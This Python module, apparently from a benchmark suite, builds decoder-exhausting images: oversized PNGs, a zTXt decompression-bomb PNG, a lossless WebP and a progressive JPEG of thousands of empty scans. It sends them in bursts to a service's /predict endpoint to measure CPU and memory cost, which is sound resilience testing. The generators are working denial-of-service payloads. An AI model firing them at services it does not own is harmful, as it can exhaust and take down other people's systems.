"""Uploads crafted to exhaust an image decoder, and what a burst of them costs a service.

Each file is small on the wire and within ``SEPCONV_MAX_IMAGE_PIXELS`` but costs its decoder
far more than its size: seconds of CPU (a progressive JPEG of thousands of empty scans),
hundreds of megabytes (a 16-bit, RGBA or one-pixel-wide PNG near the pixel limit, a lossless
WebP) or a stalled event loop (a PNG of text chunks that each inflate to a megabyte). They are
built from bytes rather than by encoding real pixels, so each takes well under a second to
make. ``decode_attack_figures`` sends them to a running service and reports its CPU and RSS.
"""

from __future__ import annotations

import io
import os
import struct
import threading
import time
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass
from functools import lru_cache
from typing import Any

import httpx
from PIL import Image

from sepconv_bench.proc_stats import cpu_seconds, rss_bytes

MiB = 1024 * 1024


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(
    width: int, height: int, bit_depth: int, color_type: int, channels: int, extra: bytes = b""
) -> bytes:
    """A valid PNG of ``width`` x ``height`` zero pixels, its rows deflated without Pillow."""
    row = 1 + width * channels * bit_depth // 8  # the filter byte, then the samples
    rows_per_block = max(1, (4 * MiB) // row)
    zeros = bytes(row * rows_per_block)
    compressor = zlib.compressobj(9)
    parts = [
        compressor.compress(zeros[: row * min(rows_per_block, height - start)])
        for start in range(0, height, rows_per_block)
    ]
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + extra
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


@lru_cache(maxsize=4)
def deep_png(side: int = 6324) -> bytes:
    """A 16-bit greyscale PNG of ``side`` x ``side`` (78 KB at the 40 MP limit)."""
    return _png(side, side, 16, 0, 1)


@lru_cache(maxsize=4)
def rgba_png(side: int = 6324) -> bytes:
    """An 8-bit RGBA PNG of ``side`` x ``side`` (155 KB at the 40 MP limit)."""
    return _png(side, side, 8, 6, 4)


@lru_cache(maxsize=4)
def thin_png(height: int = 40_000_000) -> bytes:
    """A greyscale PNG one pixel wide and ``height`` rows tall: Pillow keeps a pointer a row."""
    return _png(1, height, 8, 0, 1)


@lru_cache(maxsize=4)
def ztxt_bomb_png(chunks: int = 60, inflated_bytes: int = MiB) -> bytes:
    """A 32x32 PNG carrying ``chunks`` zTXt chunks that each inflate to ``inflated_bytes``."""
    text = _png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(inflated_bytes), 9))
    return _png(32, 32, 8, 2, 3, extra=text * chunks)


@lru_cache(maxsize=4)
def lossless_webp(width: int = 16383, height: int = 2400) -> bytes:
    """A lossless WebP of one colour: a few dozen bytes, decoded at 4 bytes a pixel, several
    times over."""
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (10, 20, 30)).save(buffer, "WEBP", lossless=True, method=0)
    return buffer.getvalue()


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


@lru_cache(maxsize=8)
def scan_bomb_jpeg(
    width: int = 65_000, height: int = 600, scans: int = 4_000, subsampling: int = 2
) -> bytes:
    """A progressive JPEG of ``width`` x ``height`` whose first scan is followed by ``scans``
    empty DC refinement scans (14 bytes each): libjpeg walks every block once per scan.
    ``subsampling`` is Pillow's (0: 4:4:4, the most blocks; 2: 4:2:0).

    Built from a real progressive JPEG by Pillow: its frame header patched to the large canvas,
    its first (DC) scan kept, then the empty scans and EOI.
    """
    small = io.BytesIO()
    Image.new("RGB", (16, 16), (120, 60, 200)).save(
        small, "JPEG", progressive=True, quality=90, subsampling=subsampling
    )
    data = small.getvalue()
    first_scan = data.index(b"\xff\xda")
    head = bytearray(data[: data.index(b"\xff\xda", first_scan + 2)])
    frame = head.index(b"\xff\xc2")
    head[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    # Components 1-3, spectral selection 0-0, successive approximation Ah=1 Al=0, no data.
    empty_scan = _jpeg_segment(0xDA, bytes([3, 1, 0x00, 2, 0x11, 3, 0x11, 0, 0, 0x10]))
    return bytes(head) + empty_scan * scans + b"\xff\xd9"


WORST_CASES: dict[str, Callable[[], bytes]] = {
    "16-bit PNG 6324x6324": deep_png,
    "RGBA PNG 6324x6324": rgba_png,
    "PNG 1x40000000": thin_png,
    "lossless WebP 16383x2400": lossless_webp,
    "JPEG 65000x600 of 4000 empty scans": scan_bomb_jpeg,
    # The costliest JPEG still accepted: 40 MP, 4:4:4, 64 scans (the default limit).
    "JPEG 6324x6324 4:4:4 of 64 scans": lambda: scan_bomb_jpeg(6324, 6324, 63, 0),
    "PNG of 60 zTXt chunks of 1 MiB": ztxt_bomb_png,
}


@dataclass(frozen=True)
class DecodeAttackFigures:
    """What one kind of upload cost the service: sent alone, then ``burst`` at once."""

    case: str
    upload_bytes: int
    status: int
    code: str | None
    seconds: float
    cpu_s: float  # the whole server process's CPU while it answered the single upload
    burst_statuses: list[int]
    idle_rss_mib: float
    peak_rss_mib: float
    settled_rss_mib: float  # ``settle_s`` after the burst

    def as_dict(self) -> dict[str, Any]:
        return asdict(self)


def _post(client: httpx.Client, url: str, data: bytes) -> tuple[int, str | None]:
    response = client.post(
        f"{url}/predict", content=data, headers={"content-type": "application/octet-stream"}
    )
    code = None if response.status_code == 200 else response.json()["error"]["code"]
    return response.status_code, code


def _burst(url: str, data: bytes, pid: int, burst: int, timeout_s: float) -> tuple[list[int], int]:
    """Send ``data`` ``burst`` times at once; the statuses, and the peak RSS of ``pid`` meanwhile
    (sampled every 10 ms)."""
    peak = rss_bytes(pid)
    done = threading.Event()

    def sample() -> None:
        nonlocal peak
        while not done.is_set():
            peak = max(peak, rss_bytes(pid))
            time.sleep(0.01)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        with httpx.Client(timeout=timeout_s) as client, ThreadPoolExecutor(burst) as pool:
            answers = list(pool.map(lambda _: _post(client, url, data), range(burst)))
    finally:
        done.set()
        sampler.join()
    return [status for status, _ in answers], peak


def decode_attack_figures(
    url: str,
    pid: int | None = None,
    *,
    cases: list[str] | None = None,
    burst: int = 8,
    settle_s: float = 30.0,
    timeout_s: float = 60.0,
) -> list[DecodeAttackFigures]:
    """Send each worst case of ``cases`` (default: all of ``WORST_CASES``) to ``url``/predict:
    once alone (its wall and CPU time), then ``burst`` at once while the RSS of ``pid``
    (default: this process, for a server in a thread) is sampled; the settled RSS is read
    ``settle_s`` after the burst's last answer."""
    pid = os.getpid() if pid is None else pid
    figures = []
    for case in cases or list(WORST_CASES):
        data = WORST_CASES[case]()
        idle = rss_bytes(pid)
        cpu_before, started = cpu_seconds(pid), time.perf_counter()
        with httpx.Client(timeout=timeout_s) as client:
            status, code = _post(client, url, data)
        seconds, cpu_s = time.perf_counter() - started, cpu_seconds(pid) - cpu_before
        statuses, peak = _burst(url, data, pid, burst, timeout_s)
        time.sleep(settle_s)
        figures.append(
            DecodeAttackFigures(
                case=case,
                upload_bytes=len(data),
                status=status,
                code=code,
                seconds=round(seconds, 3),
                cpu_s=round(cpu_s, 3),
                burst_statuses=statuses,
                idle_rss_mib=round(idle / MiB, 1),
                peak_rss_mib=round(max(idle, peak) / MiB, 1),
                settled_rss_mib=round(rss_bytes(pid) / MiB, 1),
            )
        )
    return figures
